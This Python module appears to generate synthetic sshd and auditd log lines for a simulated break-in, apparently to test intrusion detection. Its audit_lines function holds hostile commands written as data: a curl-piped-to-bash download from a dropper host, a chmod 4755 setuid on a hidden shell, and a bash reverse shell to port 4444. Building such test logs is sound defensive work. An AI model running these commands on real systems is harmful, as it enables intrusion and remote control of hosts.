"""A realistic attack as real sshd and auditd lines: password guessing, a success, then what the intruder does.

Lines are built as sshd (RFC 3164 in auth.log) and auditd 3 (`log_format = ENRICHED`, records of an event sharing time
and serial, strings quoted when clean and upper-case hex when not, interpreted fields behind 0x1D) write them. Addresses
are from the documentation ranges.
"""

import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TypedDict

_CLEAN = set(range(0x21, 0x7F)) - {ord('"')}


@dataclass(frozen=True)
class Wave:
    """One run of the attack: who, from where, as whom."""

    attacker: str
    dropper: str
    account: str
    web_user: str
    web_uid: int
    web_server: str
    serial: int
    pid: int


WAVES = (
    Wave("203.0.113.47", "203.0.113.66", "deploy", "www-data", 33, "/usr/sbin/apache2", 41000, 5200),
    Wave("198.51.100.23", "198.51.100.80", "backup", "nginx", 101, "/usr/sbin/nginx", 41006, 7300),
)


def encoded(text: str) -> str:
    """A string as the kernel writes it: quoted when clean, else upper-case hex (audit_log_untrustedstring)."""
    raw = text.encode()
    return f'"{text}"' if raw and set(raw) <= _CLEAN else raw.hex().upper()


def ssh_lines(wave: Wave, at: float, host: str) -> Iterator[bytes]:
    """auth.log, in local time as RFC 3164 has it: nine wrong passwords within a minute, then the right one."""
    stamp = time.strftime("%b %e %H:%M:%S", time.localtime(at))
    for number in range(9):
        invalid = number < 3  # noqa: PLR2004 - first they guess names
        user = ("oracle", "test", "admin")[number] if invalid else wave.account
        who = f"invalid user {user}" if invalid else user
        yield (
            f"{stamp} {host} sshd[{wave.pid - 100 + number}]: Failed password for {who} "
            f"from {wave.attacker} port {40100 + number} ssh2\n"
        ).encode()
    yield (
        f"{stamp} {host} sshd[{wave.pid - 90}]: Accepted password for {wave.account} "
        f"from {wave.attacker} port 40200 ssh2\n"
    ).encode()
    yield (
        f"{stamp} {host} sshd[{wave.pid - 90}]: pam_unix(sshd:session): session opened for user {wave.account}"
        f"(uid=1001) by (uid=0)\n"
    ).encode()


@dataclass(frozen=True)
class Execution:
    """One program started: what auditd records of an execve."""

    argv: tuple[str, ...]
    exe: str
    pid: int
    ppid: int
    user: str
    uid: int
    cwd: str = "/var/www/html"


class _Who(TypedDict):
    user: str
    uid: int


def execve(run: Execution, at: float, serial: int) -> bytes:
    """The records of one execve, as one write of auditd."""
    head = f"msg=audit({at:.3f}:{serial})"
    comm = run.exe.rsplit("/", 1)[1]
    ids = "".join(f"{name}={run.uid} " for name in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
    names = " ".join(
        f'{name}="{run.user}"' for name in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID")
    )
    arguments = " ".join(f"a{number}={encoded(argument)}" for number, argument in enumerate(run.argv))
    syscall = (
        f"arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8a3b2a0 a1=55d0c8a3b300 a2=55d0c8a3b400 a3=8 items=2 "
        f"ppid={run.ppid} pid={run.pid} auid=4294967295 {ids}tty=(none) ses=4294967295 comm={encoded(comm)} "
        f'exe={encoded(run.exe)} key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="unset" {names}'
    )
    path = (
        f"item=0 name={encoded(run.exe)} inode=131 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL "
        'cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID="root" OGID="root"'
    )
    records = (
        f"type=SYSCALL {head}: {syscall}",
        f"type=EXECVE {head}: argc={len(run.argv)} {arguments}",
        f"type=CWD {head}: cwd={encoded(run.cwd)}",
        f"type=PATH {head}: {path}",
        f"type=PROCTITLE {head}: proctitle={chr(0).join(run.argv).encode()[:128].hex().upper()}",
    )
    return "".join(f"{record}\n" for record in records).encode()


def audit_lines(wave: Wave, at: float) -> Iterator[bytes]:
    """audit.log: the web server's user fetches and runs a script, leaves a setuid shell, opens a reverse shell."""
    web, pid = wave.web_server, wave.pid
    fetch = f"curl -fsSL http://{wave.dropper}/i.sh | bash"
    shell = f"bash -i >& /dev/tcp/{wave.dropper}/4444 0>&1"
    hidden = "/tmp/.cache/sh"  # noqa: S108 - a name in a log line, never opened
    who: _Who = {"user": wave.web_user, "uid": wave.web_uid}
    runs = (
        Execution((web, "-k", "start"), web, pid, 1, "root", 0, "/"),
        Execution(("sh", "-c", fetch), "/usr/bin/dash", pid + 1, pid, **who),
        Execution(("curl", "-fsSL", f"http://{wave.dropper}/i.sh"), "/usr/bin/curl", pid + 2, pid + 1, **who),
        Execution(("bash",), "/usr/bin/bash", pid + 3, pid + 1, **who),
        Execution(("chmod", "4755", hidden), "/usr/bin/chmod", pid + 4, pid + 3, **who),
        Execution(("bash", "-c", shell), "/usr/bin/bash", pid + 5, pid + 3, **who),
    )
    for number, run in enumerate(runs):
        yield execve(run, at + number * 0.01, wave.serial + number)


def benign_lines(at: float, host: str) -> Iterator[bytes]:
    """What a quiet host writes: nothing of it may raise an alert."""
    stamp = time.strftime("%b %e %H:%M:%S", time.localtime(at))
    for rest in (
        "CRON[4100]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.hourly)",
        "sshd[4101]: Accepted publickey for alice from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:x",
        "systemd-logind[700]: New session 12 of user alice.",
    ):
        yield f"{stamp} {host} {rest}\n".encode()
